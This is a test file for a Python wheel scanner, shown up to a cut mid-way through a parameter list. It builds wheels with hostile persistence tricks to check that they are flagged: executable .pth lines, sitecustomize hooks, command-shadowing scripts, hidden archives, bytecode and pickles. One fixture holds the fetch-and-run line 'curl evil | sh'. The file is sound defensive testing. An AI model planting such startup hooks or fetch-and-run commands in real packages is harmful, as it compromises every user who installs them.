"""gate.scan.wheel: where each member installs, and what it can do there."""

from __future__ import annotations

import importlib.util
import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from gate.errors import ScanError
from gate.model import Capability, PackageScan, Phase
from gate.scan import scan_artifact, scan_paths
from gate.scan.wheel import BYTECODE_DETAIL
from tests.builders import Files, build_wheel, sha256_file, wheel_from_project

SAMPLES = Path(__file__).resolve().parents[2] / "sample_projects"
C, P = Capability, Phase


def scan(tmp_path: Path, files: Files, *, name: str = "foo",
         entry_points: Mapping[str, Mapping[str, str]] | None = None) -> PackageScan:
    return scan_artifact(build_wheel(tmp_path, name, "1.0", files, entry_points=entry_points))


def where(s: PackageScan) -> set[tuple[str, str, int, str]]:
    """(capability, path, line, phase) of every finding."""
    return {(str(f.capability), f.path, f.line, str(f.phase)) for f in s.findings}


def evidence(s: PackageScan) -> set[tuple[str, str, int, str, str]]:
    """(capability, path, line, phase, detail) of every finding permpip itself words."""
    return {(str(f.capability), f.path, f.line, str(f.phase), f.detail) for f in s.findings}


def test_clean_wheel(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "def add(a, b):\n    return a + b\n"})
    assert (s.name, s.version, s.filename) == ("foo", "1.0", "foo-1.0-py3-none-any.whl")
    assert s.sha256 == sha256_file(tmp_path / s.filename)
    assert s.findings == ()


def test_sha256_given_is_kept(tmp_path: Path) -> None:
    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""})
    assert scan_artifact(whl, sha256="ab" * 32).sha256 == "ab" * 32


def test_executable_pth_lines(tmp_path: Path) -> None:
    pth = "# a comment\n./vendor\nimport os; os.system('id')\nimport\tsys\n"
    s = scan(tmp_path, {"foo/__init__.py": "", "evil.pth": pth})
    detail = "executable .pth line runs at every interpreter start"
    assert {e for e in evidence(s) if e[0] == "startup-hooks"} == {
        ("startup-hooks", "evil.pth", 3, "startup", detail),
        ("startup-hooks", "evil.pth", 4, "startup", detail),
    }
    assert ("subprocess", "evil.pth", 3, "startup") in where(s)


def test_pth_of_paths_only_and_pth_below_top_level_do_nothing(tmp_path: Path) -> None:
    # path lines naming directories of the wheel (site-packages itself included) are benign
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/vendor/bar.py": "",
                        "foo.pth": "./foo/vendor\n#import os\n.\nfoo\n",
                        "foo/inner.pth": "import os; os.system('id')\n"})
    assert s.findings == ()


def test_pth_lines_split_as_python_3_13_splits_them(tmp_path: Path) -> None:
    # 3.13's site.py splits with str.splitlines(): a form feed ends a line, and the
    # 'import' after it runs; 3.11's sees one path line
    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "foo\fimport os; os.system('id')\n"})
    assert ("startup-hooks", "foo.pth", 2, "startup",
            "executable .pth line runs at every interpreter start") in evidence(s)
    assert ("subprocess", "foo.pth", 2, "startup") in where(s)


@pytest.mark.parametrize("line", ["/opt/evil", "../../../../tmp/evil", "..", "foo/../../x",
                                  "C:\\evil", "\\\\server\\share"])
def test_pth_path_outside_site_packages_is_unanalyzed(tmp_path: Path, line: str) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": f"{line}\n"})
    assert evidence(s) == {("unanalyzed", "foo.pth", 1, "startup",
                            f"adds {line} to sys.path at every start")}


def test_pth_path_to_nothing_of_the_wheel_is_left_alone(tmp_path: Path) -> None:
    # appended only if it exists, after everything else: another distribution's business
    s = scan(tmp_path, {"foo/__init__.py": "",
                        "foo.pth": "elsewhere\nrequests/_vendor\n~/x\n"})
    assert s.findings == ()


def test_pth_path_shown_with_its_control_characters_escaped(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "/opt/\x1bx\n"})
    assert evidence(s) == {("unanalyzed", "foo.pth", 1, "startup",
                            "adds /opt/\\x1bx to sys.path at every start")}


def _zip_bytes(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return out.getvalue()


def test_pth_path_to_a_file_is_scanned_as_an_archive(tmp_path: Path) -> None:
    # zipimport reads a zip on sys.path whatever its name
    hidden = _zip_bytes({"helper.py": b"import os\nos.system('id')\n"})
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/assets.dat": hidden,
                        "foo.pth": "foo/assets.dat\n"})
    assert ("subprocess", "foo/assets.dat!helper.py", 2, "import") in where(s)


def test_pth_path_to_an_archive_with_bytecode(tmp_path: Path) -> None:
    # zipimport imports the sourceless .pyc of an archive on sys.path
    hidden = _zip_bytes({"helper.pyc": TIMESTAMP_PYC})
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/lib.zip": hidden, "foo.pth": "foo/lib.zip\n",
                        "foo/other.zip": hidden})
    assert evidence(s) == {
        ("unanalyzed", "foo/lib.zip!helper.pyc", 0, "import",
         f"{BYTECODE_DETAIL}: foo/lib.zip!helper.pyc is imported from an archive on sys.path"),
        # not on sys.path: only a warning, as before
        ("unanalyzed", "foo/other.zip!helper.pyc", 0, "import",
         "compiled bytecode foo/other.zip!helper.pyc may run instead of any source"),
    }


def test_pth_path_to_a_file_that_is_no_zip(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/notes.txt": "hello",
                        "foo.pth": "foo/notes.txt\n"})
    [f] = s.findings
    assert (f.capability, f.path, f.phase) == (C.UNANALYZED, "foo/notes.txt", P.IMPORT)
    assert f.detail.startswith("archive foo/notes.txt could not be analysed: ")


@pytest.mark.parametrize(("files", "meta"), [
    ({"foo/vendor/bar-1.0.dist-info/METADATA": "Name: bar\n"}, "bar-1.0.dist-info"),
    ({"foo/vendor/Bar.EGG-INFO/PKG-INFO": "Name: bar\n"}, "Bar.EGG-INFO"),
])
def test_pth_path_to_a_directory_with_metadata(tmp_path: Path, files: Files,
                                               meta: str) -> None:
    # pip and importlib.metadata would see a 'bar' distribution that is not installed
    with pytest.raises(ScanError) as exc:
        scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "foo/vendor\n", **files})
    assert str(exc.value) == (f"foo-1.0-py3-none-any.whl: foo.pth:1 adds "
                              f"site-packages/foo/vendor to sys.path, where {meta} is "
                              f"distribution metadata other than the wheel's own")


def test_pth_path_to_an_archive_with_metadata(tmp_path: Path) -> None:
    bundle = _zip_bytes({"bar-1.0.dist-info/METADATA": b"Name: bar\n", "bar.py": b""})
    with pytest.raises(ScanError) as exc:
        scan(tmp_path, {"foo/__init__.py": "", "foo/b.zip": bundle, "foo.pth": "foo/b.zip\n"})
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: foo.pth:1 adds site-packages/foo/b.zip "
                              "to sys.path, where bar-1.0.dist-info is distribution metadata "
                              "other than the wheel's own")


def test_vendored_metadata_not_on_sys_path_is_fine(tmp_path: Path) -> None:
    # setuptools ships setuptools/_vendor/*.dist-info: only its own code puts that on sys.path
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/_vendor/bar-1.0.dist-info/METADATA": ""})
    assert s.findings == ()


@pytest.mark.parametrize("member", [
    "foo-1.0.data/data/lib/python3.11/site-packages/evil.pth",
    "foo-1.0.data/data/lib/python3/dist-packages/evil.pth",
    "foo-1.0.data/data/Lib/site-packages/evil.pth",
    "foo-1.0.data/purelib/evil.pth",
    "foo-1.0.data/platlib/evil.pth",
])
def test_pth_planted_through_data_paths(tmp_path: Path, member: str) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", member: "import foo\n"})
    assert evidence(s) == {("startup-hooks", member, 1, "startup",
                            "executable .pth line runs at every interpreter start")}


def test_sitecustomize_runs_at_startup(tmp_path: Path) -> None:
    s = scan(tmp_path, {"sitecustomize.py": "import os\nos.system('id')\n"})
    assert ("startup-hooks", "sitecustomize.py", 0, "startup",
            "sitecustomize runs at every interpreter start") in evidence(s)
    assert ("subprocess", "sitecustomize.py", 2, "startup") in where(s)


def test_usercustomize_package_through_platlib(tmp_path: Path) -> None:
    path = "foo-1.0.data/platlib/usercustomize/__init__.py"
    s = scan(tmp_path, {path: "x = 1\n"})
    assert evidence(s) == {("startup-hooks", path, 0, "startup",
                            "usercustomize runs at every interpreter start")}


def test_stdlib_shadows_once_per_module(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "os.py": "", "typing/__init__.py": "",
                        "typing/extra.py": ""})
    assert evidence(s) == {
        ("startup-hooks", "os.py", 0, "startup", "shadows stdlib module 'os'"),
        ("startup-hooks", "typing/__init__.py", 0, "startup",
         "shadows stdlib module 'typing'"),
    }


@pytest.mark.parametrize(("member", "owner"), [
    ("requests/adapters.py", "requests"), ("setuptools/__init__.py", "setuptools"),
    ("pkg_resources/__init__.py", "setuptools"), ("yaml/__init__.py", "pyyaml"),
])
def test_files_in_another_distributions_package(tmp_path: Path, member: str,
                                                owner: str) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", member: "x = 1\n"})
    top = member.split("/")[0]
    assert evidence(s) == {("startup-hooks", member, 0, "startup",
                            f"installs into '{top}', the package of {owner}")}


@pytest.mark.parametrize(("name", "files"), [
    ("requests", {"requests/__init__.py": "", "requests/adapters.py": ""}),
    ("attrs", {"attr/__init__.py": "", "attrs/__init__.py": ""}),
    ("pyyaml", {"yaml/__init__.py": "", "_yaml/__init__.py": ""}),
    ("foo", {"foo/__init__.py": "", "foo_helpers/__init__.py": "", "google/x/__init__.py": "",
             "foo.libs/libz.txt": "", "tests/__init__.py": ""}),
])
def test_legitimate_multi_package_wheels_are_not_flagged(tmp_path: Path, name: str,
                                                         files: Files) -> None:
    assert scan(tmp_path, files, name=name).findings == ()


def test_console_scripts_shadowing_commands(tmp_path: Path) -> None:
    eps = {"console_scripts": {"foo": "foo:main", "pip": "foo:main", "ls": "foo:main"},
           "gui_scripts": {"python3.12": "foo:gui"}}
    s = scan(tmp_path, {"foo/__init__.py": ""}, entry_points=eps)
    ep = "foo-1.0.dist-info/entry_points.txt"
    assert evidence(s) == {
        ("startup-hooks", ep, 3, "startup", "console script 'pip' shadows the pip command"),
        ("startup-hooks", ep, 4, "startup", "console script 'ls' shadows the ls command"),
        ("startup-hooks", ep, 7, "startup",
         "console script 'python3.12' shadows the python3.12 command"),
    }


def test_entry_point_targets_are_what_they_name(tmp_path: Path) -> None:
    # a script calls its target when run (runtime); a plugin group's module is imported
    # when its host starts (import); the package's own targets are scanned where they are
    eps = {"console_scripts": {"foo-serve": "http.server:test", "foo": "foo.cli:main",
                               "foo-sh": "foo:sh", "foo-json": "json.tool:main [x]",
                               "foo-get": "requests.api:get"},
           "pytest11": {"foo": "antigravity", "foo-own": "foo.plugin"}}
    s = scan(tmp_path, {"foo/__init__.py": "from os import system as sh\n",
                        "foo/cli.py": "def main(): pass\n", "foo/plugin.py": ""},
             entry_points=eps)
    ep = "foo-1.0.dist-info/entry_points.txt"
    serve = "entry point [console_scripts] foo-serve = http.server:test (http.server.test)"
    tool = "entry point [console_scripts] foo-json = json.tool:main (json.tool.main)"
    assert evidence(s) == {
        ("network", ep, 2, "runtime", serve), ("env", ep, 2, "runtime", serve),
        ("threads", ep, 2, "runtime", serve),
        # a standard module's command line is in the table as any function is
        ("fs-write", ep, 5, "runtime", tool), ("fs-read", ep, 5, "runtime", tool),
        ("network", ep, 6, "runtime",
         "entry point [console_scripts] foo-get = requests.api:get (requests.api.get)"),
        ("subprocess", ep, 9, "import", "entry point [pytest11] foo = antigravity (antigravity)"),
        ("subprocess", "foo/__init__.py", 1, "import", "os.system"),  # (its own line)
    }


def test_entry_point_attribute_paths_through_an_own_module(tmp_path: Path) -> None:
    # pkg:a.b is pip's ``from pkg import a; a.b()``: the own module's imports say where a
    # leads; own classes, functions and submodules stay own code; what no statement binds
    # (or binds to another name) is unanalyzed
    eps = {"console_scripts": {
        "f-web": "foo:webbrowser.main", "f-alias": "foo.sub:w.open_new",
        "f-from": "foo:sp.run", "f-cls": "foo:K.main", "f-submod": "foo:cli.main",
        "f-own-import": "foo:own.main", "f-nowhere": "foo:ghost.main",
        "f-rebound": "foo:r.main", "f-plain": "foo:main", "f-made": "foo:d.main",
        "f-imp": "foo:m.main"}}
    s = scan(tmp_path, {
        "foo/__init__.py": "import webbrowser\nfrom subprocess import Popen as sp\n"
                           "from . import sub as own\nclass K: pass\nr = webbrowser\n"
                           "def main(): pass\nd = K()\n"
                           "m = importlib.import_module('webbrowser')\n",
        "foo/sub.py": "import webbrowser as w\n", "foo/cli.py": "def main(): pass\n"},
        entry_points=eps)
    ep = "foo-1.0.dist-info/entry_points.txt"
    got = {(c, line) for c, p, line, _, _ in evidence(s) if p == ep}
    assert got == {("subprocess", 2), ("subprocess", 3), ("subprocess", 4),
                   ("unanalyzed", 8), ("unanalyzed", 9), ("unanalyzed", 12)}, evidence(s)
    assert ("unanalyzed", ep, 8, "runtime", "entry point [console_scripts] f-nowhere = "
            "foo:ghost.main: the attribute path through foo is not resolved") in evidence(s)


def test_pip_may_ship_pip(tmp_path: Path) -> None:
    eps = {"console_scripts": {"pip": "pip:main", "pip3.11": "pip:main"}}
    assert scan(tmp_path, {"pip/__init__.py": ""}, name="pip", entry_points=eps).findings == ()


def test_data_scripts(tmp_path: Path) -> None:
    s = scan(tmp_path, {
        "foo/__init__.py": "",
        "foo-1.0.data/scripts/sudo": "#!/bin/sh\nexec /usr/bin/sudo \"$@\"\n",
        "foo-1.0.data/scripts/foo-tool": "#!python\nimport os\nos.system('id')\n",
        "foo-1.0.data/data/bin/git": "#!/usr/bin/env python3\n",
    })
    assert {e for e in evidence(s) if e[0] != "subprocess"} == {
        ("startup-hooks", "foo-1.0.data/scripts/sudo", 0, "startup",
         "script 'sudo' shadows the sudo command"),
        ("native", "foo-1.0.data/scripts/sudo", 0, "runtime",
         "executable script foo-1.0.data/scripts/sudo runs under '/bin/sh', not Python: not "
         "analysed"),
        ("startup-hooks", "foo-1.0.data/data/bin/git", 0, "startup",
         "script 'git' shadows the git command"),
    }
    assert ("subprocess", "foo-1.0.data/scripts/foo-tool", 3, "import") in where(s)


TIMESTAMP_PYC = importlib.util.MAGIC_NUMBER + b"\x00" * 12  # flags 0: checked by mtime
HASH_PYC = importlib.util.MAGIC_NUMBER + b"\x01\x00\x00\x00" + b"\x00" * 8  # unchecked hash


def test_bytecode_and_pickles(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/core.pyc": TIMESTAMP_PYC,
                        "foo/__pycache__/x.cpython-311.pyc": TIMESTAMP_PYC, "foo/x.py": "",
                        "foo/__pycache__/y.cpython-311.pyc": HASH_PYC, "foo/y.py": "",
                        "foo/old.pyo": TIMESTAMP_PYC,
                        "foo/model.pkl": b"\x80\x04N.", "foo/data.pickle": b"\x80\x04N."})
    assert evidence(s) == {
        ("unanalyzed", "foo/core.pyc", 0, "import",
         f"{BYTECODE_DETAIL}: foo/core.pyc is imported without any source"),
        ("unanalyzed", "foo/old.pyo", 0, "import",
         f"{BYTECODE_DETAIL}: foo/old.pyo is imported without any source"),
        ("unanalyzed", "foo/__pycache__/y.cpython-311.pyc", 0, "import",
         f"{BYTECODE_DETAIL}: foo/__pycache__/y.cpython-311.pyc is hash-based, loaded in "
         f"place of its source"),
        # checked against its source's mtime, which neither pip nor uv keeps: a warning
        ("unanalyzed", "foo/__pycache__/x.cpython-311.pyc", 0, "import",
         "compiled bytecode foo/__pycache__/x.cpython-311.pyc may run instead of any source"),
        ("dynamic-code", "foo/model.pkl", 0, "runtime",
         "pickle data foo/model.pkl runs code when loaded"),
        ("dynamic-code", "foo/data.pickle", 0, "runtime",
         "pickle data foo/data.pickle runs code when loaded"),
    }


def test_bytecode_detail_marks_what_the_policy_refuses() -> None:
    assert BYTECODE_DETAIL == "bytecode runs at import"


def test_sitecustomize_bytecode_runs_at_startup(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "sitecustomize.pyc": HASH_PYC})
    assert evidence(s) == {
        ("startup-hooks", "sitecustomize.pyc", 0, "startup",
         "sitecustomize runs at every interpreter start"),
        ("unanalyzed", "sitecustomize.pyc", 0, "startup",
         f"{BYTECODE_DETAIL}: sitecustomize.pyc is imported without any source"),
    }


def test_bytecode_through_the_data_scheme(tmp_path: Path) -> None:
    member = "foo-1.0.data/data/lib/python3.11/site-packages/foo/evil.pyc"
    s = scan(tmp_path, {"foo/__init__.py": "", member: TIMESTAMP_PYC})
    assert evidence(s) == {("unanalyzed", member, 0, "import",
                            f"{BYTECODE_DETAIL}: {member} is imported without any source")}


def test_bytecode_outside_site_packages_is_not_imported(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo-1.0.data/data/share/foo/x.pyc": HASH_PYC})
    assert s.findings == ()


def test_data_scheme_python_is_scanned_text_and_headers_are_not(tmp_path: Path) -> None:
    # nothing imports <prefix>/share/foo/hook.py, but whatever runs it runs this code
    s = scan(tmp_path, {"foo/__init__.py": "",
                        "foo-1.0.data/data/share/foo/hook.py": "import os\nos.system('id')\n",
                        "foo-1.0.data/headers/foo.h": "int x;",
                        "foo/README.txt": "import os; os.system('id')"})
    assert where(s) == {("subprocess", "foo-1.0.data/data/share/foo/hook.py", 2, "runtime")}


def test_unknown_scheme(tmp_path: Path) -> None:
    with pytest.raises(ScanError) as exc:
        scan(tmp_path, {"foo/__init__.py": "", "foo-1.0.data/elsewhere/x.py": ""})
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: member 'foo-1.0.data/elsewhere/x.py' "
                              "uses 'elsewhere', not a wheel scheme (data, headers, platlib, "
                              "purelib, scripts)")


def test_layout_refusals_reach_the_scan(tmp_path: Path) -> None:
    # pip installs it as site-packages/x.pth, uv as an inert file: one reading, refused
    with pytest.raises(ScanError) as exc:
        scan(tmp_path, {"foo/__init__.py": "", "zzz.data/purelib/x.pth": "import os\n"})
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: member 'zzz.data/purelib/x.pth' is in "
                              "zzz.data, a .data directory other than foo-1.0.data (pip "
                              "installs it as data, uv as a directory of that name)")


def test_wheel_without_wheel_file(tmp_path: Path) -> None:
    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""})
    with zipfile.ZipFile(whl) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    del members["foo-1.0.dist-info/WHEEL"]
    with zipfile.ZipFile(whl, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    with pytest.raises(ScanError) as exc:
        scan_artifact(whl)
    assert str(exc.value) == "foo-1.0-py3-none-any.whl: foo-1.0.dist-info/WHEEL is missing"


def test_nested_zip_code_is_scanned(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("inner.pyc", b"\0" * 16)
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/bundle.zip": inner.getvalue()})
    assert evidence(s) == {("unanalyzed", "foo/bundle.zip!inner.pyc", 0, "import",
                            "compiled bytecode foo/bundle.zip!inner.pyc may run instead of "
                            "any source")}


def test_unreadable_nested_zip_is_unanalyzed(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/broken.egg": b"PK\x03\x04junk"})
    [f] = s.findings
    assert (f.capability, f.path, f.phase) == (C.UNANALYZED, "foo/broken.egg", P.IMPORT)
    assert f.detail.startswith("archive foo/broken.egg could not be analysed: "
                               "foo-1.0-py3-none-any.whl!foo/broken.egg: not a readable zip")


def test_metadata_must_match_filename(tmp_path: Path) -> None:
    whl = build_wheel(tmp_path, "bar", "1.0", {"bar/__init__.py": ""})
    renamed = whl.rename(tmp_path / "foo-1.0-py3-none-any.whl")
    with pytest.raises(ScanError) as exc:
        scan_artifact(renamed)
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: METADATA says bar 1.0, "
                              "the filename says foo 1.0")


def test_wheel_without_dist_info(tmp_path: Path) -> None:
    whl = tmp_path / "foo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(whl, "w") as zf:
        zf.writestr("foo/__init__.py", "")
    with pytest.raises(ScanError) as exc:
        scan_artifact(whl)
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: expected one .dist-info directory, "
                              "found 0")


def test_scan_paths_sorts_and_expands_directories(tmp_path: Path) -> None:
    build_wheel(tmp_path / "d", "zeta", "1.0", {"zeta/__init__.py": ""})
    build_wheel(tmp_path / "d", "alpha", "2.0", {"alpha/__init__.py": ""})
    (tmp_path / "d" / "notes.txt").write_text("x")
    one = build_wheel(tmp_path, "alpha", "1.0", {"alpha/__init__.py": ""})
    got = [(s.name, s.version) for s in scan_paths([tmp_path / "d", one])]
    assert got == [("alpha", "1.0"), ("alpha", "2.0"), ("zeta", "1.0")]


CAP_SAMPLES = sorted(p.name for p in SAMPLES.glob("cap-*"))


def test_every_capability_has_a_sample() -> None:
    expected = {f"cap-{c}" for c in Capability if c != Capability.UNANALYZED}
    assert set(CAP_SAMPLES) == expected


@pytest.mark.parametrize("project", [*CAP_SAMPLES, "clean-lib"])
def test_sample_project_wheels(tmp_path: Path, project: str) -> None:
    s = scan_artifact(wheel_from_project(SAMPLES / project, tmp_path))
    caps = {str(c) for c in s.capabilities}
    if project in ("clean-lib", "cap-install-hooks"):  # setup.py is not in the wheel
        assert caps == set()
    else:
        assert caps == {project.removeprefix("cap-")}


# ---------------------------------------------------------------- a distribution's own API
FAKE_REQUESTS: Files = {
    "requests/__init__.py": "from .api import get\n",
    "requests/api.py": "from . import sessions\ndef get(u):\n    return sessions.Session()\n",
    "requests/adapters.py": "import urllib3\ndef send():\n    return urllib3.PoolManager()\n",
    "requests/sessions.py": ("import requests.adapters\nfrom requests.adapters import HTTPAdapter\n"
                             "class Session:\n    def mount(self):\n"
                             "        return requests.adapters.HTTPAdapter()\n"),
}


def test_own_api_is_not_evidence_inside_its_distribution(tmp_path: Path) -> None:
    # adapters.py still uses urllib3 (network); sessions.py only refers to requests itself
    s = scan(tmp_path, FAKE_REQUESTS, name="requests")
    assert evidence(s) == {("network", "requests/adapters.py", 3, "runtime",
                            "urllib3.PoolManager")}


def test_own_api_is_evidence_in_another_distribution(tmp_path: Path) -> None:
    files = {"foo/__init__.py": "import requests\ndef f():\n    requests.get('u')\n"}
    assert evidence(scan(tmp_path, files)) == {
        ("network", "foo/__init__.py", 3, "runtime", "requests.get")}
    # a distribution that plants files in another's package gets no own pass for it
    s = scan(tmp_path / "b", {**FAKE_REQUESTS, "foo/__init__.py": ""})
    assert ("network", "requests/sessions.py", 5, "runtime",
            "requests.adapters.HTTPAdapter") in evidence(s)
    assert ("startup-hooks", "requests/__init__.py", 0, "startup",
            "installs into 'requests', the package of requests") in evidence(s)


def test_own_api_through_a_script_and_data_scheme(tmp_path: Path) -> None:
    files = {"requests/__init__.py": "", "requests-1.0.data/scripts/fetch":
             "#!python\nimport requests\nrequests.get('u')\n",
             "requests-1.0.data/purelib/requests/x.py": "import requests\nrequests.post('u')\n"}
    assert evidence(scan(tmp_path, files, name="requests")) == set()


@pytest.mark.parametrize(("paths", "dist", "expected"), [
    (["requests/__init__.py", "requests/api.py"], "requests", {"requests"}),
    (["charset_normalizer/__init__.py"], "charset-normalizer", {"charset_normalizer"}),
    (["yaml/__init__.py", "_yaml/__init__.py"], "pyyaml", {"yaml", "_yaml"}),
    (["six.py"], "six", {"six"}),
    (["requests/api.py"], "requests", set()),  # namespace package: not only its own
    (["requests/__init__.py"], "requests-extra", set()),  # borrowed name
    (["os/__init__.py", "os.py"], "os", set()),  # stdlib names are never own
    (["botocore/__init__.py", "botocore/data/x.py", "vendored/__init__.py"], "botocore",
     {"botocore"}),
])
def test_own_packages(paths: list[str], dist: str, expected: set[str]) -> None:
    from gate.model import normalize
    from gate.scan.wheel import own_packages

    assert own_packages(paths, normalize(dist)) == expected


# ---------------------------------------------------------------- import roots a .pth adds
RUNS = "runs at every interpreter start (on sys.path through foo.pth:1)"


def test_sitecustomize_in_a_directory_a_pth_path_line_adds(tmp_path: Path) -> None:
    # site.py appends foo/hooks to sys.path, THEN imports sitecustomize: it runs at startup
    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "foo/hooks\n",
                        "foo/hooks/sitecustomize.py": "import os\nos.system('id')\n",
                        "foo/hooks/json/__init__.py": "", "foo/hooks/foo_impl.py": ""})
    assert evidence(s) == {
        ("startup-hooks", "foo/hooks/sitecustomize.py", 0, "startup", f"sitecustomize {RUNS}"),
        ("subprocess", "foo/hooks/sitecustomize.py", 2, "startup", "os.system"),
        ("subprocess", "foo/hooks/sitecustomize.py", 2, "import", "os.system"),
        ("startup-hooks", "foo/hooks/json/__init__.py", 0, "startup",
         "shadows stdlib module 'json' (on sys.path through foo.pth:1)"),
    }


def test_usercustomize_package_in_a_pth_directory(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "./foo/./hooks/\n",
                        "foo/hooks/usercustomize/__init__.pyc": HASH_PYC})
    assert evidence(s) == {
        ("startup-hooks", "foo/hooks/usercustomize/__init__.pyc", 0, "startup",
         f"usercustomize {RUNS}"),
        ("unanalyzed", "foo/hooks/usercustomize/__init__.pyc", 0, "startup",
         f"{BYTECODE_DETAIL}: foo/hooks/usercustomize/__init__.pyc is imported without any "
         f"source"),
        ("unanalyzed", "foo/hooks/usercustomize/__init__.pyc", 0, "import",
         f"{BYTECODE_DETAIL}: foo/hooks/usercustomize/__init__.pyc is imported without any "
         f"source"),
    }


def test_sitecustomize_in_an_archive_a_pth_path_line_adds(tmp_path: Path) -> None:
    hooks = _zip_bytes({"usercustomize.py": b"import os\nos.system('id')\n",
                        "requests/__init__.py": b"", "x.pyc": b"\0" * 16})
    s = scan(tmp_path, {"foo/__init__.py": "", "foo/hooks.zip": hooks,
                        "foo.pth": "foo/hooks.zip\n"})
    assert evidence(s) == {
        ("startup-hooks", "foo/hooks.zip!usercustomize.py", 0, "startup",
         f"usercustomize {RUNS}"),
        ("subprocess", "foo/hooks.zip!usercustomize.py", 2, "startup", "os.system"),
        ("subprocess", "foo/hooks.zip!usercustomize.py", 2, "import", "os.system"),
        ("startup-hooks", "foo/hooks.zip!requests/__init__.py", 0, "startup",
         "installs into 'requests', the package of requests (on sys.path through foo.pth:1)"),
        ("unanalyzed", "foo/hooks.zip!x.pyc", 0, "import",
         f"{BYTECODE_DETAIL}: foo/hooks.zip!x.pyc is imported from an archive on sys.path"),
    }


def test_pth_path_line_to_data_scheme_files(tmp_path: Path) -> None:
    # <site-packages>/../../../share/evil is <prefix>/share/evil: the data scheme's code is
    # on sys.path, imported (and sitecustomize run) like site-packages code
    evil = "foo-1.0.data/data/share/evil"
    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "../../../share/evil\n",
                        f"{evil}/sitecustomize.py": "import os\nos.system('id')\n",
                        f"{evil}/helper.py": "import socket\nsocket.socket()\n",
                        f"{evil}/mod.pyc": TIMESTAMP_PYC})
    assert evidence(s) == {
        ("unanalyzed", "foo.pth", 1, "startup", "adds ../../../share/evil to sys.path at every "
                                                "start"),
        ("startup-hooks", f"{evil}/sitecustomize.py", 0, "startup", f"sitecustomize {RUNS}"),
        ("subprocess", f"{evil}/sitecustomize.py", 2, "startup", "os.system"),
        ("subprocess", f"{evil}/sitecustomize.py", 2, "import", "os.system"),
        ("network", f"{evil}/helper.py", 2, "import", "socket.socket"),
        ("unanalyzed", f"{evil}/mod.pyc", 0, "import",
         f"{BYTECODE_DETAIL}: {evil}/mod.pyc is imported without any source"),
    }


def test_pth_path_line_to_the_scripts_directory(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "../../../bin\n",
                        "foo-1.0.data/scripts/sitecustomize.py": "#!python\nimport os\n"
                                                                  "os.system('id')\n"})
    assert ("startup-hooks", "foo-1.0.data/scripts/sitecustomize.py", 0, "startup",
            f"sitecustomize {RUNS}") in evidence(s)
    assert ("subprocess", "foo-1.0.data/scripts/sitecustomize.py", 3, "startup") in where(s)


def test_pth_path_line_to_data_scheme_metadata(tmp_path: Path) -> None:
    with pytest.raises(ScanError) as exc:
        scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "../../../share/x\n",
                        "foo-1.0.data/data/share/x/bar-1.0.dist-info/METADATA": ""})
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: foo.pth:1 adds <prefix>/share/x to "
                              "sys.path, where bar-1.0.dist-info is distribution metadata "
                              "other than the wheel's own")


# ---------------------------------------------------------------- scripts as the kernel runs them
def native_script(path: str, runs: str) -> tuple[str, str, int, str, str]:
    return ("native", path, 0, "runtime",
            f"executable script {path} runs under {runs}, not Python: not analysed")


SYSTEM = "import os\nos.system('id')\n"
S = "foo-1.0.data/scripts"


@pytest.mark.parametrize(("script", "expected"), [
    # pip and uv rewrite '#!python...' to the environment's interpreter
    ("#!python\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
    ("#!pythonw -x\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
    ("#!python\r\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
    # a plain Python interpreter, no argument: the kernel runs the file as Python
    ("#!/usr/bin/env python3\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
    ("#! /usr/bin/python3.12\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
    ("#!/usr/local/bin/python\n" + SYSTEM,
     {("subprocess", f"{S}/t", 3, "import", "os.system")}),
    # anything else runs as the #! line says: code outside Python (its Python text, when it
    # names Python, is scanned too)
    ("#!/bin/sh\ncurl evil | sh\n", {native_script(f"{S}/t", "'/bin/sh'")}),
